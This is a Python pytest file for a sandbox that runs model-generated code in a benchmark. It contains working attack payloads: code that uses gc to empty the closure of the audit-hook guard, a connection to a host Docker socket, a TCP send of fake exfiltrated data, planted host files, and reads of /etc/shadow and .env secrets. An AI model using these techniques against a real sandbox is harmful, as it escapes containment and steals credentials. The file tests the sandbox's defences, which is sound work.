"""Issue 18, items 1, 2 and 4: model-written code must not reach the host.

Each payload first switches the audit-hook guard off from plain Python (its closure is
found through ``gc`` and emptied), as the adversarial pass did, then attacks. Every payload
runs under each layer combination of ``layers.py``: with no layer at all (and, as root,
with the guard alone) it must succeed, which proves it is real; each combination meant to
stop it must stop it, and the test names the layers that held.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from pytest_summarybench.sandbox import SandboxResult, _cgroup, run_sandboxed
from pytest_summarybench.sandbox.launch import STAGING_PREFIX
from tests.sandbox.layers import COMBINATIONS, KERNEL, as_root, limits_for

#: Empties the guard's closure: afterwards it allows everything.
GUARD_OFF = """
import gc
for _obj in gc.get_objects():
    code = getattr(_obj, "__code__", None)
    if code is not None and code.co_name == "hook" and getattr(_obj, "__closure__", None):
        for _name, _cell in zip(code.co_freevars, _obj.__closure__):
            if _name == "denied_always":
                _cell.cell_contents = {}
            elif _name == "path_events":
                _cell.cell_contents = set()
            elif _name == "inside":
                _cell.cell_contents = lambda p: True
            elif _name == "private_path":
                _cell.cell_contents = lambda p: False
"""


def attack(payload: str, combo: str, **kwargs: object) -> SandboxResult:
    limits = limits_for(combo)
    return run_sandboxed(GUARD_OFF + textwrap.dedent(payload), limits=limits,
                         **kwargs)  # type: ignore[arg-type]


def held(result: SandboxResult) -> str:
    return f"layers that held: {', '.join(result.layers)}"


def test_the_guard_alone_is_not_a_boundary() -> None:
    """The finding that opened issue 18: Python code switches the guard off."""
    result = attack("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()
        print("GUARD OFF")
        """, "guard-only")
    assert "GUARD OFF" in result.stdout, result.stderr



def _first_bytes(server: socket.socket) -> bytes:
    """What the attack sent to ``server`` before its timeout (nothing: it never connected)."""
    try:
        conn, _ = server.accept()
        received = conn.recv(100)
        conn.close()
    except TimeoutError:
        received = b""
    return received

@pytest.mark.parametrize("combo", sorted(COMBINATIONS))
def test_a_host_unix_socket_is_unreachable(combo: str, tmp_path: Path) -> None:
    """Like /var/run/docker.sock: a socket on the host's file system."""
    os.chmod(tmp_path, 0o777)
    path = tmp_path / "docker.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    os.chmod(path, 0o777)
    server.listen(4)
    server.settimeout(0.5)
    try:
        result = attack(f"""
            import socket
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect({str(path)!r})
            s.sendall(b"POST /containers/create")
            print("CONNECTED")
            """, combo)
        received = _first_bytes(server)
    finally:
        server.close()
    if combo in ("none", "guard-only"):
        if as_root():
            assert received and "CONNECTED" in result.stdout  # the payload is real
        return
    assert received == b"" and "CONNECTED" not in result.stdout, held(result)


@pytest.mark.parametrize("combo", sorted(COMBINATIONS))
def test_tcp_is_unreachable(combo: str) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.5)
    port = server.getsockname()[1]
    try:
        result = attack(f"""
            import socket
            s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
            s.sendall(b"exfiltrated")
            print("CONNECTED")
            """, combo)
        received = _first_bytes(server)
    finally:
        server.close()
    if combo in ("none", "guard-only"):
        assert received == b"exfiltrated"
        return
    assert received == b"" and "CONNECTED" not in result.stdout, held(result)


@pytest.mark.parametrize("combo", sorted(COMBINATIONS))
def test_host_files_cannot_be_written(combo: str, tmp_path: Path) -> None:
    os.chmod(tmp_path, 0o777)
    target = tmp_path / "planted.txt"
    result = attack(f"""
        open({str(target)!r}, "w").write("planted")
        print("WROTE")
        """, combo)
    if combo in ("none", "guard-only", "seccomp-only"):
        if as_root():
            assert target.exists()  # without a kernel boundary, root writes anywhere
        return
    assert not target.exists() and "WROTE" not in result.stdout, held(result)


@pytest.mark.parametrize("combo", sorted(COMBINATIONS))
def test_host_files_cannot_be_read(combo: str, tmp_path: Path) -> None:
    """/etc/shadow, and .env files found by walking the file system outside home
    directories; their text raised as an exception (it would reach the report)."""
    secret = "sk-DOTENV-SECRET-5e2a91"
    project = tmp_path / "project"
    project.mkdir()
    (project / ".env").write_text(f"OPENAI_API_KEY={secret}\n")
    os.chmod(tmp_path, 0o755)
    result = attack(f"""
        import os
        found = []
        try:
            found.append(open("/etc/shadow").read()[:200])
        except OSError:
            pass
        for top in ("/etc", "/srv", "/opt", {str(tmp_path)!r}):
            for dirpath, dirnames, filenames in os.walk(top):
                if ".env" in filenames:
                    try:
                        found.append(open(os.path.join(dirpath, ".env")).read())
                    except OSError:
                        pass
        raise RuntimeError("stolen: " + " | ".join(found))
        """, combo)
    text = result.full_stdout + result.stderr
    if combo in ("none", "guard-only", "seccomp-only"):
        if as_root():
            assert secret in text  # the payload is real
        return
    assert secret not in text and "root:" not in text, held(result)


def _alive_output(directory: Path) -> bool:
    try:
        return b"ALIVE" in (directory / "stdout").read_bytes()
    except OSError:
        return False


def _sandbox_processes(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


@pytest.mark.parametrize("combo", [*KERNEL, "none"])
def test_the_sandbox_dies_with_a_killed_pytest(combo: str, tmp_path: Path) -> None:
    """Item 4: pytest SIGKILLed mid-run leaves no sandboxed process, and nothing behind:
    the staging directory (the generated code) and the cgroups go within seconds."""
    limits = limits_for(combo)
    owner = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
        import sys
        from pytest_summarybench.sandbox import SandboxLimits, run_sandboxed
        limits = SandboxLimits(**{{**{limits.__dict__!r}, "wall_s": 120.0, "cpu_s": 120}})
        run_sandboxed("import time\\nprint('ALIVE', flush=True)\\ntime.sleep(120)\\n",
                      limits=limits)
        """)], cwd=str(Path(__file__).resolve().parents[2]))
    try:
        deadline = time.monotonic() + 60
        staging: list[Path] = []
        while time.monotonic() < deadline and not staging:
            # the run's directory, once its code runs (trial runs of the boundary come first)
            staging = [d for d in Path("/tmp").glob(f"{STAGING_PREFIX}{owner.pid}-*")
                       if _alive_output(d)]
            time.sleep(0.05)
        assert staging, "the sandbox never started"
        sleepers = _sandbox_processes("time.sleep(120)") + _sandbox_processes(str(staging[0]))
        assert sleepers
        owner.send_signal(signal.SIGKILL)
        owner.wait()
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and _sandbox_processes(str(staging[0])):
            time.sleep(0.05)
        assert _sandbox_processes(str(staging[0])) == []
        assert all(not Path(f"/proc/{pid}").exists() or b"time.sleep(120)" not in
                   Path(f"/proc/{pid}/cmdline").read_bytes() for pid in sleepers)
    finally:
        if owner.poll() is None:
            owner.kill()
    # The run's reaper (a process of its own) removes its staging directory, which holds
    # the generated code, and its cgroups, without waiting for another run.
    patterns = [f"{_cgroup.PREFIX}{owner.pid}-*"]
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and (staging[0].exists() or _groups_of(patterns)):
        time.sleep(0.1)
    assert not staging[0].exists()
    assert _groups_of(patterns) == []


def _groups_of(patterns: list[str]) -> list[Path]:
    return [g for root in (_cgroup.V2_ROOT, *_cgroup.V1_ROOTS.values()) if root.is_dir()
            for pattern in patterns for g in root.glob(pattern)]


def test_hidden_files_of_the_package_stay_out(tmp_path: Path) -> None:
    """Payload (adversarial pass of 2026-11-24): the task's package folder holds a
    project's ``.env`` and ``.git/config``; the generated code looks for them."""
    package = tmp_path / "pkg"
    (package / ".git").mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "code.py").write_text("X = 1\n")
    (package / ".env").write_text("TOKEN=CANARY-PKGENV-77aa88bb\n")
    (package / ".git" / "config").write_text("[remote] url=CANARY-GIT-0011\n")
    result = run_sandboxed(textwrap.dedent("""
        import os
        found = sorted(os.listdir("pkg"))
        print("FOUND", found, flush=True)
        """), readonly_dirs={"pkg": package}, limits=limits_for("all"))
    assert "FOUND ['__init__.py', 'code.py']" in result.stdout, result.stdout
